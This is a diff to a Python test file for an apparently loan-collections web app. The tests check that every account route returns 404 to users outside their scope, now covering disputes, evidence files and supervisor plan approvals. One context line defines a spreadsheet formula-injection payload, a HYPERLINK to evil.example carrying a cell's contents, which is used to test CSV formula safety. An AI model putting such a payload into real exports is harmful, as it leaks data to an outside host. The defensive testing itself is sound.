@@ -1,8 +1,9 @@
 """Scope on every route that shows or changes an account's data (issue 11, finding 6).
 
 :func:`test_every_account_route_answers_404_out_of_scope` walks the app's router: every
-route whose path takes a loan, case, plan, promise, attempt or complaint id is called
-with the id of a real record on an account outside the caller's scope, by
+route whose path takes a loan, case, plan, promise, attempt, complaint, hold (a dispute),
+dispute evidence or plan approval id is called with the id of a real record on an account
+outside the caller's scope, by
 
 - a bucket-scoped user (scope M1) of each staff role, and
 - an agency agent whose agency the account is not placed with,
@@ -30,7 +31,8 @@ from fastapi.routing import iter_route_contexts
 from sqlalchemy import func, insert, select, update
 from tests.web.conftest import AS_OF, SETUP_TIME, TEST_KEY
 
-from forbear.services import assistant, contacts, staff
+from forbear.domain.legal.proof import s10_check_digit
+from forbear.services import assistant, contacts, holds, staff
 from forbear.store.audit import AuditEvent
 from forbear.store.crypto import Contexts, PiiVault
 from forbear.store.legal import LegalCase, LegalQueueEntry
@@ -46,6 +48,9 @@ ACCOUNT_IDS = {
     "complaint_id",
     "message_id",  # an outbox message (the outbox and sent-messages pages)
     "conversation_id",  # a conversation with the assistant, handed to agents (issue 14)
+    "hold_id",  # a hold on a loan's borrower: here a dispute (issue 15, item 1)
+    "evidence_id",  # a file the borrower attached to their dispute
+    "approval_id",  # a plan submitted for a supervisor's decision (issue 15, item 2)
 }
 # Routes with an id in the path that are not about one account of the book, or that are
 # the borrower's own (a borrower session; each borrower reaches only their own loans,
@@ -74,6 +79,11 @@ PAIRS = [
     ("agency1", "agency2"),
 ]
 PROMISED_ON = (AS_OF + timedelta(days=3)).isoformat()
+# proof of delivery of a demand letter: a UPU S10 postal item number with its check digit
+TRACKING = f"EA12345678{s10_check_digit('12345678')}CN"
+# a settlement discount of 19%: beyond an agent (10-15%), within a supervisor (20-30%)
+BEYOND = {"plan_type": "settlement", "discount_pct": 19}
+PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
 # An example request per walked route: valid for the route's schema, so that only the
 # scope can refuse it. A new route needs one here.
 EXAMPLES: dict[tuple[str, str], dict[str, Any]] = {
@@ -107,7 +117,19 @@ EXAMPLES: dict[tuple[str, str], dict[str, Any]] = {
     ("POST", "/api/v1/accounts/{loan_id}/plans"): {"json": {"plan_type": "deferral", "months": 1}},
     ("POST", "/api/v1/plans/{plan_id}/accept"): {},
     ("POST", "/api/v1/plans/{plan_id}/cancel"): {"json": {"reason": "测试"}},
-    ("POST", "/api/v1/legal/cases/{case_id}/advance"): {"json": {"to": "demand_letter"}},
+    # plans beyond an agent's authority, for a supervisor's decision (issue 15, item 2)
+    ("POST", "/api/v1/accounts/{loan_id}/plans/submit"): {
+        "json": {**BEYOND, "reason": "一次性还清"}
+    },
+    ("POST", "/api/v1/approvals/{approval_id}/decide"): {
+        "json": {"decision": "refuse", "reason": "材料不足"}
+    },
+    ("POST", "/api/v1/legal/cases/{case_id}/advance"): {
+        "json": {"to": "demand_letter", "tracking_number": TRACKING}
+    },
+    ("POST", "/api/v1/legal/cases/{case_id}/costs"): {
+        "json": {"kind": "court_fee", "amount": "100.00"}
+    },
     ("POST", "/api/v1/complaints/{complaint_id}/start"): {},
     ("POST", "/api/v1/complaints/{complaint_id}/extend"): {"json": {"reason": "需调取录音"}},
     ("POST", "/api/v1/complaints/{complaint_id}/approve"): {},
@@ -132,9 +154,23 @@ EXAMPLES: dict[tuple[str, str], dict[str, Any]] = {
     ("POST", "/promises/{promise_id}/cancel"): {},
     ("POST", "/accounts/{loan_id}/plans/quote"): {"data": {"plan_type": "deferral", "months": "1"}},
     ("POST", "/accounts/{loan_id}/plans"): {"data": {"plan_type": "deferral", "months": "1"}},
+    ("POST", "/accounts/{loan_id}/plans/submit"): {
+        "data": {"plan_type": "settlement", "discount_pct": "19", "reason": "一次性还清"}
+    },
+    ("POST", "/approvals/{approval_id}/decide"): {
+        "data": {
+            "plan_type": "settlement",
+            "discount_pct": "19",
+            "decision": "refuse",
+            "reason": "材料不足",
+        }
+    },
     ("POST", "/plans/{plan_id}/accept"): {},
     ("POST", "/plans/{plan_id}/cancel"): {},
-    ("POST", "/legal/cases/{case_id}/advance"): {"data": {"to": "demand_letter"}},
+    ("POST", "/legal/cases/{case_id}/advance"): {
+        "data": {"to": "demand_letter", "proof_kind": "tracking", "tracking_number": TRACKING}
+    },
+    ("POST", "/legal/cases/{case_id}/costs"): {"data": {"kind": "court_fee", "amount": "100.00"}},
     ("POST", "/compliance/complaints/{complaint_id}/survey"): {"data": {"score": "4"}},
     ("POST", "/compliance/complaints/{complaint_id}/{action}"): {"data": {}},
     # the agents' handoff pages of the assistant (issue 14)
@@ -142,6 +178,15 @@ EXAMPLES: dict[tuple[str, str], dict[str, Any]] = {
     ("POST", "/assistant/conversations/{conversation_id}/reply"): {"data": {"text": "您好"}},
     ("POST", "/assistant/conversations/{conversation_id}/release"): {"data": {}},
     ("POST", "/assistant/conversations/{conversation_id}/close"): {"data": {}},
+    # the holds-and-disputes desk (issue 15, item 1): a dispute taken, given to an owner,
+    # verified, answered and released by the twin (a later step may then be a conflict)
+    ("POST", "/holds/{hold_id}/take"): {"data": {}},
+    ("POST", "/holds/{hold_id}/assign"): {"data": {"owner": "super1"}},
+    ("POST", "/holds/{hold_id}/verify"): {"data": {}},
+    ("POST", "/holds/{hold_id}/answer"): {"data": {"answer": "已核实还款记录，金额无误"}},
+    ("POST", "/holds/{hold_id}/release"): {
+        "data": {"reason": "借款人提供了还款凭证，异议成立", "resolution": "upheld"}
+    },
 }
 OTHER_PARAMS = {"name": "case-{case_id}-parties.csv", "action": "start"}
 EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
@@ -155,6 +200,7 @@ class Targets:
     ids: dict[str, int]
     loans: set[int]
     attempt_loan: int  # the loan of ids["attempt_id"]
+    queued_loan: int  # a loan in the legal review queue (the confirm step before a case)
 
 
 def walked_routes(app) -> list[tuple[str, str]]:  # type: ignore[no-untyped-def]
@@ -237,7 +283,18 @@ def make_targets(sign_in, book, db) -> Targets:  # type: ignore[no-untyped-def]
     )
     assert complaint.status_code == 201, complaint.text
     case_loan, case = _legal_case(sign_in, db, set(out_of_m1))
-    loans = {loan, plan_loan, attempt_loan, case_loan}
+    taken = {loan, plan_loan, attempt_loan, case_loan}
+    approval_loan, approval = _first(
+        [n for n in out_of_m1[:200] if n not in taken],
+        lambda n: sign_in("agent1").post(
+            f"/api/v1/accounts/{n}/plans/submit", json={**BEYOND, "reason": "一次性还清"}
+        ),
+    )
+    taken.add(approval_loan)
+    hold_loan = next(n for n in out_of_m1 if n not in taken)
+    hold, evidence = _dispute_with_evidence(db, hold_loan)
+    queued_loan = _queued(db, set(out_of_m1) - taken - {hold_loan})
+    loans = taken | {hold_loan, queued_loan}
     for placed in loans:  # the agency twin's agency holds every target account
         contacts.notify_agency(db.conn, loan_id=placed, agency_id=8, at=SETUP_TIME, actor="test")
         contacts.assign_agency(db.conn, loan_id=placed, agency_id=8, at=SETUP_TIME, actor="test")
@@ -252,10 +309,48 @@ def make_targets(sign_in, book, db) -> Targets:  # type: ignore[no-untyped-def]
             "attempt_id": attempt,
             "complaint_id": int(complaint.json()["id"]),
             "case_id": case,
+            "approval_id": int(approval["approval_id"]),
+            "hold_id": hold,
+            "evidence_id": evidence,
         },
         loans=loans,
         attempt_loan=attempt_loan,
+        queued_loan=queued_loan,
     )
+
+
+def _queued(db, allowed: set[int]) -> int:  # type: ignore[no-untyped-def]
+    """A loan out of M1 waiting in the legal review queue (no case opened for it)."""
+    queued = db.conn.execute(
+        select(LegalQueueEntry.loan_id)
+        .where(LegalQueueEntry.status == "queued")
+        .order_by(LegalQueueEntry.id)
+    ).scalars()
+    return int(next(n for n in queued if n in allowed))
+
+
+def _dispute_with_evidence(db, loan: int) -> tuple[int, int]:  # type: ignore[no-untyped-def]
+    """A dispute on ``loan`` (as the portal opens one) with a file its borrower attached."""
+    hold = contacts.add_hold(
+        db.conn,
+        loan_id=loan,
+        kind="dispute",
+        actor="test",
+        since=SETUP_TIME,
+        reason="portal dispute: amount_wrong",
+    )
+    borrower = db.conn.execute(select(Loan.borrower_id).where(Loan.id == loan)).scalar_one()
+    evidence = holds.add_evidence(
+        db.conn,
+        db.vault,
+        db.settings.data_dir,
+        borrower_id=int(borrower),
+        hold_id=hold,
+        filename="还款凭证.png",
+        data=PNG,
+        now=SETUP_TIME,
+    )
+    return hold, evidence
 
 
 def _waiting_conversation(db, loan: int) -> int:  # type: ignore[no-untyped-def]
@@ -366,6 +461,8 @@ def test_every_account_route_answers_404_out_of_scope(client, sign_in, book, db,
         values = {k: str(v) for k, v in targets.ids.items()}
         if "{attempt_id}" in path:  # the attempt's own loan
             values["loan_id"] = str(targets.attempt_loan)
+        if path == "/legal/queue/{loan_id}/open":  # the confirm step: a loan still queued
+            values["loan_id"] = str(targets.queued_loan)
         values |= {k: v.format(**values) for k, v in OTHER_PARAMS.items()}
         url = path.format(**{p: values[p] for p in re.findall(r"{(\w+)}", path)})
         reached = False
@@ -469,7 +566,8 @@ def test_parties_csv_for_the_lawyer_in_scope_is_formula_safe(client, sign_in, bo
     )
     lawyer = sign_in("legal1")
     advanced = lawyer.post(
-        f"/api/v1/legal/cases/{case}/advance", json={"to": "demand_letter", "notes": "-1+1 备注"}
+        f"/api/v1/legal/cases/{case}/advance",
+        json={"to": "demand_letter", "notes": "-1+1 备注", "tracking_number": TRACKING},
     )
     assert advanced.status_code in (200, 409), advanced.text
     url = f"/api/v1/legal/cases/{case}/documents/case-{case}-parties.csv"
